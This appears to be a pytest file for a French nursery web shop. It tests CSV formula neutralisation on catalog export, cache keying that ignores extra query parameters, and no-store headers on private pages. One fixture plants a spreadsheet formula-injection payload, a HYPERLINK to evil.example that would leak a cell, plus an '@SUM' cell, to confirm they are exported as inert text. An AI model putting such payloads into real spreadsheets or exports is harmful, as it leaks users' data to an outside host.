"""What browsers and spreadsheets keep (issue "Safe to put online"): no private page in a
cache, no query string that forces a catalog render, no formula out of the catalog export."""

import csv
import io
import re

from sqlalchemy import select

from boutique.extensions import db
from boutique.models import Product
from tests.conftest import TEST_PASSWORD, page_text
from tests.test_invoices import confirmed, documents, invoice_order, shop  # noqa: F401
from tests.test_storefront import nursery  # noqa: F401

EXPORT_URL = "/gestion/produits/export.csv"


# --- The catalog export keeps formulas as text --------------------------------------------------


def exported_rows(response):
    assert response.status_code == 200, response.location
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_catalog_export_neutralises_cells_a_spreadsheet_would_run(
    client, login, make_user, make_product
):
    make_product(
        name='=HYPERLINK("https://evil.example/?"&A1;"Tomate")',
        variety="@SUM(1+1)",
        description="- à repiquer en mai\n+ arroser",
    )
    make_product(name="Tomate", variety="Cerise", description="Sucrée.")
    login(make_user(role="admin", email="direction@lapepiniere.example"))

    rows = {row["variete"]: row for row in exported_rows(client.get(EXPORT_URL))}

    evil = rows["'@SUM(1+1)"]
    assert evil["nom"] == '\'=HYPERLINK("https://evil.example/?"&A1;"Tomate")'
    assert evil["description"] == "'- à repiquer en mai\n+ arroser"
    assert rows["Cerise"]["nom"] == "Tomate" and rows["Cerise"]["description"] == "Sucrée."


def test_a_neutralised_export_imports_back_unchanged(client, login, make_user, make_product):
    product = make_product(name="-Tomate-", variety="=Cerise", description="- à repiquer")
    login(make_user(role="admin", email="direction@lapepiniere.example"))
    exported = client.get(EXPORT_URL).data

    response = client.post(
        "/gestion/produits/import",
        data={"file": (io.BytesIO(exported), "catalogue.csv")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )

    assert "Import terminé : 0 produits créés, 1 mis à jour." in page_text(response)
    db.session.expire_all()
    names = db.session.scalars(select(Product.name).order_by(Product.id)).all()
    assert names == ["-Tomate-"]
    product = db.session.get(Product, product.id)
    assert (product.variety, product.description) == ("=Cerise", "- à repiquer")


# --- The catalog cache keys on the search and the category only ----------------------------------


def test_other_query_parameters_serve_the_cached_catalog(client, nursery, count_queries):  # noqa: F811
    first = client.get("/")
    assert first.status_code == 200

    with count_queries() as queries:
        other = client.get("/?utm=1&x=2")

    assert other.status_code == 200
    assert not any("FROM offer" in q for q in queries), queries  # no new render
    assert len(queries) <= 1  # the week's version, nothing else
    assert "utm=1" not in other.get_data(as_text=True)  # no parameter is written in the page
    assert strip_tokens(other) == strip_tokens(first)


def test_a_search_is_cached_once_whatever_its_spacing_or_other_parameters(
    client, nursery, count_queries  # noqa: F811
):
    searched = client.get("/?q=tomate&categorie=plants-potagers")
    assert "Noire de Crimée" in page_text(searched) and "Basilic" not in page_text(searched)

    with count_queries() as queries:
        again = client.get("/?q=%20%20tomate%20&categorie=plants-potagers&fbclid=abc")

    assert not any("FROM offer" in q for q in queries)
    assert strip_tokens(again) == strip_tokens(searched)
    # The add-to-basket buttons come back to the search, not to the parameters sent.
    assert 'name="next" value="/?categorie=plants-potagers&amp;q=tomate"' in (
        again.get_data(as_text=True)
    )


def strip_tokens(response):
    return re.sub(r'name="csrf_token" value="[^"]*"', "", response.get_data(as_text=True))


# --- Cache-Control: no-store on private pages ----------------------------------------------------


def test_order_invoice_account_and_back_office_pages_are_never_stored(
    app, client, shop, staff, login  # noqa: F811
):
    order = confirmed(invoice_order(shop), staff)
    invoice = documents(order)[0]
    customer_pages = [
        "/compte/connexion",
        f"/commande/suivi/{order.access_token}",
        f"/commande/suivi/{order.access_token}/agenda.ics",
        f"/commande/suivi/{order.access_token}/factures/{invoice.id}.pdf",
        "/commande/suivi/pas-un-jeton",  # a 404 there too
    ]
    for url in customer_pages:
        assert client.get(url).headers.get("Cache-Control") == "no-store", url

    login(shop["restaurant"])
    for url in ("/compte/profil", "/compte/commandes"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers.get("Cache-Control") == "no-store", url

    staff_client = app.test_client()
    staff_client.post("/compte/connexion", data={"email": staff.email, "password": TEST_PASSWORD})
    for url in (
        "/gestion/",
        "/gestion/commandes",
        f"/gestion/commandes/{order.id}",
        "/gestion/factures",
        f"/gestion/factures/{invoice.id}.pdf",
        f"/gestion/semaines/{shop['week'].id}/documents/emargement?format=pdf",
    ):
        response = staff_client.get(url)
        assert response.status_code == 200, url
        assert response.headers.get("Cache-Control") == "no-store", url


def test_the_catalog_and_static_files_may_be_cached(client, nursery):  # noqa: F811
    for url in ("/", f"/produit/{nursery['tomato'].id}", "/static/css/style.css"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" not in response.headers.get("Cache-Control", ""), url
